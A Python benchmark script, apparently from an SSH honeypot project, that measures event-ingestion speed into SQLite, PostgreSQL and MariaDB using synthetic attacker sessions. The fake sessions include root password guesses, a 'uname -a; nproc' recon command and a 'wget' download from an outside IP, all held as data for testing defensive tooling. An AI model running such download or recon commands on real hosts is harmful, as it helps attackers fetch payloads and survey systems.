"""Intake into each kind of database: events per second, and the ceiling of the plain driver in the same run.

`python bench/store.py [EVENTS] [sqlite postgresql mariadb]` prints one JSON line. The plain driver inserts each event's
id and body into one table in the same batches; intake keeps sessions, log-ins, commands, URLs to recover and all the
figures of the pages besides. `load`: how many others wanted the processors.
"""

from __future__ import annotations

import json
import os
import sqlite3
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from sqlalchemy import make_url
from tests.support.databases import database, stop_temporary_servers

from urltrap.model.event import (
    ClientIdentified,
    CommandEntered,
    Connected,
    Disconnected,
    EventBase,
    LoginTried,
    ProgramRun,
    TerminalFrames,
    encode_event,
)
from urltrap.model.ids import new_ulid
from urltrap.pipeline.intake import BATCH
from urltrap.store import open_store
from urltrap.store.intake import ingest

START = datetime(2026, 1, 1, tzinfo=UTC)


def events(count: int) -> list[EventBase]:
    """Sessions of 12 events each, as attackers make them: connect, log-ins, commands, programs, terminal, close."""
    made: list[EventBase] = []
    number = 0
    while len(made) < count:
        number += 1
        at = START + timedelta(seconds=number)
        session = new_ulid(1_767_225_600_000 + number, number.to_bytes(10, "big"))
        address = f"203.0.{number % 40}.{number % 251}"
        made += [
            Connected(
                session=session, seq=0, at=at, sensor="ssh", protocol="ssh", src_ip=address, src_port=1 + number % 9999,
                dst_ip="192.0.2.1", dst_port=22,
            ),
            ClientIdentified(session=session, seq=1, at=at, version=b"SSH-2.0-Go", hassh="0" * 32),
            *(
                LoginTried(
                    session=session, seq=2 + n, at=at, method="password", username=b"root",
                    password=b"pass%d" % (number * 7 % 900 + n), accepted=n == 2,
                )
                for n in range(3)
            ),
            CommandEntered(session=session, seq=5, at=at, mode="exec", text=b"cd /tmp; uname -a; nproc"),
            *(
                ProgramRun(session=session, seq=6 + n, at=at, argv=[b"uname", b"-a"], outcome="ran", status=0)
                for n in range(3)
            ),
            CommandEntered(session=session, seq=9, at=at, mode="exec", text=b"wget http://198.51.100.9/%d" % number),
            TerminalFrames(session=session, seq=10, at=at, frames=[(1, "o", b"x" * 200)]),
            Disconnected(session=session, seq=11, at=at, reason="client", duration_ms=900),
        ]  # fmt: skip
    return made[:count]


def plain_sqlite(_url: str, folder: Path, batch: list[EventBase]) -> float:
    """Events per second that sqlite3 alone inserts as (session, seq, body) in the same batches and pragmas."""
    connection = sqlite3.connect(folder / "plain.db", isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA synchronous=NORMAL")
    connection.execute("CREATE TABLE e (session TEXT, seq INT, body BLOB, PRIMARY KEY (session, seq))")
    begin = time.perf_counter()
    for rows in plain_rows(batch):
        connection.execute("BEGIN IMMEDIATE")
        connection.executemany("INSERT INTO e VALUES (?,?,?)", rows)
        connection.execute("COMMIT")
    seconds = time.perf_counter() - begin
    connection.close()
    return len(batch) / seconds


def plain_postgresql(url: str, _folder: Path, batch: list[EventBase]) -> float:
    """The same by psycopg's COPY."""
    import psycopg

    address = make_url(url)
    with psycopg.connect(
        host=address.host, port=address.port, user=address.username, dbname=address.database
    ) as connection:
        connection.execute("CREATE TABLE e (session TEXT, seq INT, body BYTEA, PRIMARY KEY (session, seq))")
        connection.commit()
        begin = time.perf_counter()
        for rows in plain_rows(batch):
            with connection.cursor().copy("COPY e FROM STDIN (FORMAT BINARY)") as copy:
                copy.set_types(["text", "int4", "bytea"])
                for row in rows:
                    copy.write_row(row)
            connection.commit()
        return len(batch) / (time.perf_counter() - begin)


def plain_mariadb(url: str, _folder: Path, batch: list[EventBase]) -> float:
    """The same by PyMySQL's statements of many rows."""
    import pymysql

    address = make_url(url)
    connection = pymysql.connect(
        host=address.host or "",
        port=address.port or 0,
        user=address.username,
        database=address.database,
        charset="utf8mb4",
    )
    with connection, connection.cursor() as cursor:
        cursor.execute(
            "CREATE TABLE e (session VARCHAR(40), seq INT, body LONGBLOB, PRIMARY KEY (session, seq)) ENGINE=InnoDB"
        )
        begin = time.perf_counter()
        for rows in plain_rows(batch):
            cursor.executemany("INSERT INTO e VALUES (%s,%s,%s)", rows)
            connection.commit()
        return len(batch) / (time.perf_counter() - begin)


def plain_rows(batch: list[EventBase]) -> Iterator[list[tuple[str, int, bytes]]]:
    """Batches of what the plain drivers insert."""
    for start in range(0, len(batch), BATCH):
        yield [(event.session, event.seq, encode_event(event)) for event in batch[start : start + BATCH]]


PLAIN = {"sqlite": plain_sqlite, "postgresql": plain_postgresql, "mariadb": plain_mariadb}


def run(kind: str, made: list[EventBase]) -> dict[str, Any]:
    """Measure one kind of database."""
    count = len(made)
    with (
        tempfile.TemporaryDirectory(prefix="urltrap-bench-", dir=os.environ.get("BENCH_DIR")) as name,
        database(kind, Path(name)) as url,
        database(kind, Path(name), "plain-server") as plain_url,
    ):
        ceiling = PLAIN[kind](plain_url, Path(name), made)
        store = open_store(url)
        begin, cpu = time.perf_counter(), time.process_time()
        for start in range(0, count, BATCH):
            ingest(store, "trap-0", made[start : start + BATCH], (1, start + BATCH))
        seconds, cpu = time.perf_counter() - begin, time.process_time() - cpu
        begin = time.perf_counter()
        for start in range(0, count, BATCH):
            ingest(store, "trap-0", made[start : start + BATCH], (1, start + BATCH))
        again = time.perf_counter() - begin
        store.close()
    return {
        "events_per_second": round(count / seconds), "events_per_cpu_second": round(count / cpu),
        "repeated_per_second": round(count / again), "plain_driver_per_second": round(ceiling),
    }  # fmt: skip


def main() -> None:
    """Measure and print."""
    count = int(sys.argv[1]) if len(sys.argv) > 1 else 48_000
    kinds = sys.argv[2:] or list(PLAIN)
    made = events(count)
    results = {kind: run(kind, made) for kind in kinds}
    stop_temporary_servers()
    print(
        json.dumps({"bench": "store", "events": count, "batch": BATCH, "load": os.getloadavg()[0], **results})
    )


if __name__ == "__main__":
    main()
